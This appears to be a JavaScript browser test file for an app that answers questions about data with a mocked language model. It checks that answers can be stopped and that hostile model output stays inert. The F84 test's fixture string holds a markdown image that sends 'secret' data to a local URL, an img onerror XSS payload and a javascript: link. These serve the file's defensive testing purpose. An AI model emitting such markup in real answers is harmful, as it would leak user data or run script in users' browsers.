// With a language model that takes its time, and one that tries to smuggle a picture in.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { startApp } from "./support/app.mjs";
import {
  answer,
  ask,
  launchBrowser,
  loadSampleDataset,
  openContext,
  settle,
  watch,
} from "./support/browser.mjs";
import { startOllama } from "./support/ollama.mjs";

const slow = { words: Array.from({ length: 600 }, (_, i) => `word${i} `), pauseMs: 250 };
const picture =
  "There are **32** products. ![x](http://127.0.0.1:9/leak.png?data=secret) " +
  "<img src=x onerror=alert(1)> [more](javascript:alert(2))";

let mode = "quick";
let ollama;
let app;
let browser;
let schemaId;
let cookies;

before(async () => {
  ollama = await startOllama((body) => {
    if (mode === "slow") return slow;
    const sql = "SELECT COUNT(*) AS products FROM products";
    const hasResult = body.messages.some(({ role }) => role === "tool");
    return { words: [hasResult ? picture : `\`\`\`sql\n${sql}\n\`\`\``], pauseMs: 5 };
  });
  app = await startApp({ OLLAMA_BASE_URL: ollama.url, OLLAMA_MODEL: ollama.model });
  browser = await launchBrowser();
  const context = await openContext(browser);
  ({ schemaId } = await loadSampleDataset(context, app, { engine: "builtin" }));
  cookies = await context.cookies();
  await context.close();
});
after(async () => {
  await browser?.close();
  await app?.stop();
  await ollama?.stop();
});

async function openQuery() {
  const context = await openContext(browser);
  await context.addCookies(cookies);
  const watched = await watch(context, app.url);
  const page = await context.newPage();
  await page.goto(`${app.url}/portal/query?schema=${schemaId}`);
  await settle(page);
  return { context, watched, page };
}

test("while a slow model works, a word says what happens; Stop and Esc end it, at the model too", async () => {
  mode = "slow";
  const { context, watched, page } = await openQuery();
  await page.getByText(ollama.model).first().waitFor();
  for (const end of ["button", "key"]) {
    await ask(page, `How many products are there, by ${end}?`);
    const status = page.getByRole("log", { name: "Conversation" }).getByRole("status");
    await status.getByText(/…$/).waitFor();
    assert.match(await status.innerText(), /\w{4,}/);
    await assert.doesNotReject(
      page.waitForFunction(() => document.querySelector('[role="log"]') !== null),
      "the page answers while it waits",
    );
    const deadline = Date.now() + 15_000;
    while (ollama.state.running === 0 && Date.now() < deadline) await page.waitForTimeout(50);
    assert.ok(ollama.state.running > 0, "the model was asked");
    if (end === "button") await page.getByRole("button", { name: "Stop", exact: true }).click();
    else await page.keyboard.press("Escape");
    await page.getByText("Stopped.").waitFor();
    while (ollama.state.running > 0 && Date.now() < deadline) await page.waitForTimeout(50);
    assert.equal(ollama.state.running, 0, "the model was told to stop");
    await page.getByRole("textbox", { name: "Your question" }).waitFor();
  }
  watched.assertClean();
  await context.close();
});

test("F84: a picture, markup and a script link in an answer stay inert", async () => {
  mode = "quick";
  const { context, watched, page } = await openQuery();
  await ask(page, "How many products are there?");
  await page.getByRole("button", { name: "Ask", exact: true }).waitFor();
  await answer(page).waitFor();
  await settle(page);
  const shown = await answer(page).innerText();
  if (!shown.includes("32")) assert.fail(`an answer with its number: ${shown}`);
  assert.equal(await page.locator('[role="log"] img').count(), 0);
  assert.equal(await page.locator('[role="log"] a[href^="javascript"]').count(), 0);
  watched.assertClean();
  await context.close();
});
